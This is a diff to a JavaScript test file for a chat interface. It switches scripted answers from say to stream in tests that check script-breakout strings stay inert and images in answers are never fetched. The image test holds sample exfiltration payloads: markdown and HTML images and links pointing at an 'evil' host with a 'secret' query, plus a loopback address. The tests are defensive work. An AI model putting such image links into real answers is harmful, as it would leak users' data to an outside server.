@@ -41,7 +41,7 @@ test("check 46: what would end a script or begin a comment is inert, on the page
 	const { person } = victim;
 	const text = `Вопрос ${BREAKOUTS.join(" ")}`;
 	model.script(async (reply) => {
-		await reply.say(`Ответ ${BREAKOUTS.join(" ")}`);
+		await reply.stream(`Ответ ${BREAKOUTS.join(" ")}`);
 		reply.finish();
 	});
 	const { conversationId, answerId } = await person.ask(text);
@@ -68,7 +68,7 @@ test("check 46: what would end a script or begin a comment is inert, on the page
 test("check 45: a picture in an answer is never fetched, by the server or by the policy of the page", async () => {
 	const { person } = victim;
 	model.script(async (reply) => {
-		await reply.say(
+		await reply.stream(
 			`![тайна](${evil}/?q=secret) ![](//127.0.0.1/x) <img src="${evil}/raw"> [сюда](${evil}/link) ${evil}/auto`,
 		);
 		reply.finish();
